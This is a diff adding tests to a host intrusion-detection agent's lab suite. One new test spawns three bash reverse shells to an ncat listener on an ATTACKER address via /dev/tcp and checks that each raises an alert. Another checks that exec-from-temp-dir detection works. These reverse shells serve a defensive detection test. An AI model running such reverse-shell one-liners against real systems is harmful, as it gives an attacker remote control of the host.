@@ -28,6 +28,7 @@ from conftest import REPO, AgentProcess, base_config, deep_merge, free_port
 from tests.host.attack_lab import (
     ATTACKER,
     LOW,
+    RULE_IDS,
     VICTIM,
     Procs,
     alerts_of,
@@ -148,6 +149,63 @@ def test_plain_ncat_listener_is_no_bind_shell_but_one_with_exec_is(
     ports = {a["vedette"]["group"].get("server.port")
              for a in alerts_of(agent, "shell_listening", t0)}
     assert with_exec in ports and plain not in ports, ports
+
+
+def test_repeated_reverse_shells_are_each_an_alert_never_suppressed(
+        agent: AgentProcess, netns: str, procs: Procs) -> None:
+    """Three reverse shells of one user in a row: three alerts (issue 17: a cooldown grouped by
+    user dropped the later ones, visible only in vedette_alerts_suppressed_total)."""
+    need("ncat", "bash")
+    t0 = time.time()
+    rid = RULE_IDS["reverse_shell_socket_stdio"]
+    dropped = {"rule": rid, "reason": "dropped"}  # ("coalesced": updates of an open alert)
+    dropped_before = agent.sample("vedette_alerts_suppressed_total", dropped) or 0.0
+    for _ in range(3):
+        port = 4000 + secrets.randbelow(2000)
+        listener = procs.spawn("ncat", "-n", "-l", ATTACKER, str(port), ns=netns,
+                               stdin=subprocess.PIPE)
+        wait_port(netns, ATTACKER, port)
+        shell = procs.spawn("bash", "-c", f"bash -i >& /dev/tcp/{ATTACKER}/{port} 0>&1",
+                            ns=netns)
+        seen = len(alerts_of(agent, "reverse_shell_socket_stdio", t0))
+        agent.wait_for(lambda n=seen: len(alerts_of(agent, "reverse_shell_socket_stdio", t0))
+                       > n, 15, "a new reverse-shell alert")
+        assert listener.stdin is not None
+        listener.stdin.close()
+        shell.wait(10)
+    ids = {a["event"]["id"] for a in alerts_of(agent, "reverse_shell_socket_stdio", t0)}
+    assert len(ids) == 3
+    assert (agent.sample("vedette_alerts_suppressed_total", dropped) or 0.0) == dropped_before
+
+
+# -- exec facts of a program that lives a millisecond ---------------------------------------
+
+def test_a_program_run_once_from_tmp_is_seen_with_its_argv(agent: AgentProcess,
+                                                           tmp_path: Path) -> None:
+    """A binary that exits at once (before /proc/PID could be read): its executable and argv
+    come from the kernel's audit records. Dropped (copied) there: high; built there: low."""
+    need("gcc")
+    build = tmp_path / "build"
+    build.mkdir()
+    (build / "quick.c").write_text("int main(void) { return 0; }\n")
+    subprocess.run(["gcc", "-o", str(build / "quick"), str(build / "quick.c")], check=True,
+                   timeout=120, capture_output=True)
+    dropped = tmp_path / "drop" / "quick"
+    dropped.parent.mkdir()
+    shutil.copy(build / "quick", dropped)
+    token = f"--token={secrets.token_hex(4)}"
+    t0 = time.time()
+    subprocess.run([str(dropped), token, "once"], check=True, timeout=10)
+    subprocess.run([str(build / "quick"), token, "built"], check=True, timeout=10)
+
+    def run_once(rule: str, exe: Path, arg: str) -> bool:
+        return any(a["vedette"]["group"].get("process.executable") == str(exe)
+                   and a["vedette"]["matched"].get("process.command_line")
+                   == f"{exe} {token} {arg}" for a in alerts_of(agent, rule, t0))
+    agent.wait_for(lambda: run_once("exec_from_writable_dir", dropped, "once"), 15,
+                   "exec_from_writable_dir with the full command line")
+    agent.wait_for(lambda: run_once("exec_built_in_writable_dir", build / "quick", "built"), 15,
+                   "exec_built_in_writable_dir (low) with the full command line")
 
 
 # -- downloads executed ---------------------------------------------------------------------
@@ -284,7 +342,7 @@ def _tiny_deb(workdir: Path, name: str) -> Path:
 
 def test_benign_admin_and_developer_work_raises_nothing_above_low(
         agent: AgentProcess, tmp_path: Path) -> None:
-    need("gcc", "tar", "dpkg-deb", "dpkg")
+    need("gcc", "tar", "dpkg-deb", "dpkg", "apt-get", "logrotate")
     marker = f"vdtb{os.getpid() % 100000}{secrets.token_hex(2)}"
     work = tmp_path / marker
     build = work / "home" / "dev" / "build"
@@ -299,20 +357,25 @@ def test_benign_admin_and_developer_work_raises_nothing_above_low(
     subprocess.run(["tar", "czf", str(work / "etc-backup.tgz"), "-C", "/", "etc"],
                    check=False, timeout=120, capture_output=True)
     # logrotate of an application log with its own state file
-    if shutil.which("logrotate"):
-        log = work / "app.log"
-        log.write_text("line\n" * 100)
-        conf = work / "logrotate.conf"
-        conf.write_text(f"{log} {{\n  rotate 2\n  compress\n  missingok\n}}\n")
-        subprocess.run(["logrotate", "-f", "-s", str(work / "state"), str(conf)], check=True,
-                       timeout=60)
-    # a package with three systemd units installed and removed
+    log = work / "app.log"
+    log.write_text("line\n" * 100)
+    conf = work / "logrotate.conf"
+    conf.write_text(f"{log} {{\n  rotate 2\n  compress\n  missingok\n}}\n")
+    subprocess.run(["logrotate", "-f", "-s", str(work / "state"), str(conf)], check=True,
+                   timeout=60)
+    assert (work / "app.log.1.gz").exists()
+    # a package with three systemd units installed and removed with apt (a local .deb without
+    # dependencies: nothing is downloaded, no index update)
     name = f"{marker}-pkg"
     deb = _tiny_deb(work, name)
+    apt_env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
     try:
-        subprocess.run(["dpkg", "-i", str(deb)], check=True, capture_output=True, timeout=120)
+        subprocess.run(["apt-get", "install", "-y", "-q", str(deb)],
+                       check=True, capture_output=True, timeout=300, env=apt_env)
         time.sleep(2)
     finally:
+        subprocess.run(["apt-get", "purge", "-y", "-q", name], check=False,
+                       capture_output=True, timeout=300, env=apt_env)
         subprocess.run(["dpkg", "--purge", name], check=False, capture_output=True,
                        timeout=120)
     time.sleep(3)
